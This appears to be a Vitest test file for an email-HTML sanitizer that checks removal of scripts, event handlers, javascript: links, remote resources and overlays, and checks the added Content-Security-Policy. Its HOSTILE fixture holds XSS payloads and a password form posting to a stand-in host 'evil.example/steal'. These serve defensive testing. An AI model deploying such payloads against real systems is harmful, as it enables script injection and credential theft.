// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { contentSecurityPolicy, plainTextDocument, sanitizeEmailHtml } from "./sanitize-email";

const HOSTILE = `<html><head>
<style>@import url("https://evil.example/x.css"); body { background: url(https://evil.example/bg.png) } .a { color: red }</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="https://evil.example/">
</head><body>
<script>parent.hacked = 1</script>
<img src="x" onerror="parent.hacked = 2">
<svg onload="parent.hacked = 3"><circle r="1"/></svg>
<a href="javascript:parent.hacked=4" id="js">click</a>
<a href="JaVaScRiPt:parent.hacked=5" id="js2">click</a>
<a href="https://acme.com/docs" id="ok">docs</a>
<iframe srcdoc="<script>parent.hacked=6</script>"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<div style="background-image: url('https://evil.example/inline.png'); position: fixed; color: blue">overlay</div>
<img src="https://evil.example/pixel.gif" width="1"><img src="data:image/png;base64,iVBORw0KGgo=" id="inline">
<table background="https://evil.example/table.png"><tr><td>cell</td></tr></table>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<p id="text">Hello <b>customer</b></p>
</body></html>`;

function parse(srcdoc: string): Document {
  return new DOMParser().parseFromString(srcdoc, "text/html");
}

describe("sanitizeEmailHtml", () => {
  const { srcdoc, blockedRemote } = sanitizeEmailHtml(HOSTILE, false);
  const doc = parse(srcdoc);

  it("removes everything executable", () => {
    expect(doc.querySelectorAll("script, iframe, object, embed, form, input, button, base, svg").length).toBe(
      0,
    );
    expect(srcdoc).not.toMatch(/onerror|onload|javascript:/i);
    expect(doc.querySelector("meta[http-equiv=refresh]")).toBeNull();
    expect(doc.getElementById("js")?.getAttribute("href")).toBeNull();
    expect(doc.getElementById("js2")?.getAttribute("href")).toBeNull();
  });

  it("neutralises boxes that could lay fake content over the email", () => {
    expect(srcdoc).not.toMatch(/position:\s*fixed/);
    expect(doc.querySelector("div[style]")?.getAttribute("style")).toContain("position: static");
  });

  it("keeps the content and safe formatting", () => {
    expect(doc.getElementById("text")?.textContent).toBe("Hello customer");
    const css = [...doc.querySelectorAll("style")].map((s) => s.textContent).join("\n");
    expect(css).toContain(".a { color: red }");
    expect(doc.getElementById("inline")?.getAttribute("src")).toMatch(/^data:image\/png/);
  });

  it("blocks every remote resource until asked, and counts them", () => {
    expect(srcdoc).not.toContain("evil.example/x.css");
    expect(srcdoc).not.toContain("evil.example/bg.png");
    expect(srcdoc).not.toContain("evil.example/inline.png");
    expect(srcdoc).not.toContain("evil.example/pixel.gif");
    expect(srcdoc).not.toContain("evil.example/table.png");
    // bg.png (style sheet), inline.png (style attribute), pixel.gif (img), table.png (background attribute)
    expect(blockedRemote).toBe(4);
  });

  it("opens links outside the pane without telling the site where they came from", () => {
    const link = doc.getElementById("ok")!;
    expect(link.getAttribute("href")).toBe("https://acme.com/docs");
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("puts a strict Content-Security-Policy in the document as a second wall", () => {
    const csp =
      doc.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "";
    expect(csp).toContain("script-src 'none'");
    expect(csp).toContain("img-src data:");
    expect(csp).not.toContain("https:");
    expect(csp).toContain("form-action 'none'");
  });

  it("shows remote images once the user asks, still without scripts", () => {
    const allowed = sanitizeEmailHtml(HOSTILE, true);
    expect(allowed.blockedRemote).toBe(0);
    expect(allowed.srcdoc).toContain("https://evil.example/pixel.gif");
    expect(allowed.srcdoc).not.toContain("x.css"); // CSS imports stay out: they can carry more than pictures
    expect(allowed.srcdoc).not.toMatch(/<script|onerror/i);
    expect(contentSecurityPolicy(true)).toContain("img-src data: https: http:");
  });
});

describe("plainTextDocument", () => {
  it("escapes text so markup in a plain email stays text", () => {
    const doc = parse(plainTextDocument('<script>alert("x")</script> & more').srcdoc);
    expect(doc.querySelector("script")).toBeNull();
    expect(doc.querySelector("pre")?.textContent).toBe('<script>alert("x")</script> & more');
  });
});
